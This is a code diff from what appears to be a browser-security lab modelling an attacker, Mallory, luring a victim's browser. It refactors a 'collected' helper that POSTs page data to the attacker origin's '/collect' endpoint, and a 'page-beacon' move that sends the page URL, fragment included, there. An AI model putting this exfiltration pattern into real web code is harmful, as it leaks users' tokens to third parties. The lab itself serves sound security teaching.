@@ -1,11 +1,11 @@
-import type { HttpRequest } from '@/lib/oauth/http'
-import { fetchRequest, openPage } from '@/lib/user-agent/browser'
+import { openPage } from '@/lib/user-agent/browser'
 import { linkTarget } from '@/lib/user-agent/links'
 import { labTime } from '../clock'
-import { LabRefusal } from '../refusal'
 import { browserMove } from './browser'
+import { collected } from './collected'
 import { PICTURE_MOVES } from './lured-pictures'
-import type { Move, MoveContext } from './move'
+import { SCRIPT_MOVES } from './lured-scripts'
+import type { Move } from './move'
 
 /** What Alice's browser does on pages that are Mallory's, or that Mallory's script got into. */
 export const LURED_MOVES: Readonly<Record<string, Move>> = {
@@ -20,24 +20,7 @@ export const LURED_MOVES: Readonly<Record<string, Move>> = {
     openPage(state, linkTarget(state, String(input.link)), { now: labTime(lab, host) }),
   ),
   ...PICTURE_MOVES,
+  ...SCRIPT_MOVES,
   /** The script of Mallory's page tells its server the address it stands at, fragment included. */
   'page-beacon': collected((context) => context.lab.browser.page?.url ?? ''),
-}
-
-/** A script of the open page sends text to Mallory's site, without asking for an answer it could read. */
-export function collected(read: (context: MoveContext) => string): Move {
-  return {
-    from: 'browser',
-    async prepare(context): Promise<HttpRequest> {
-      const { lab } = context
-      if (!lab.browser.page) throw new LabRefusal(409, 'The browser shows no page whose script could send anything.')
-      return fetchRequest(lab.browser, {
-        method: 'POST',
-        url: `${lab.origins.attacker}/collect`,
-        headers: [['content-type', 'text/plain;charset=UTF-8']],
-        body: read(context),
-      })
-    },
-    settle: async (_context, _request, response) => (response.status >= 400 ? 'refusal' : 'confirmation'),
-  }
 }
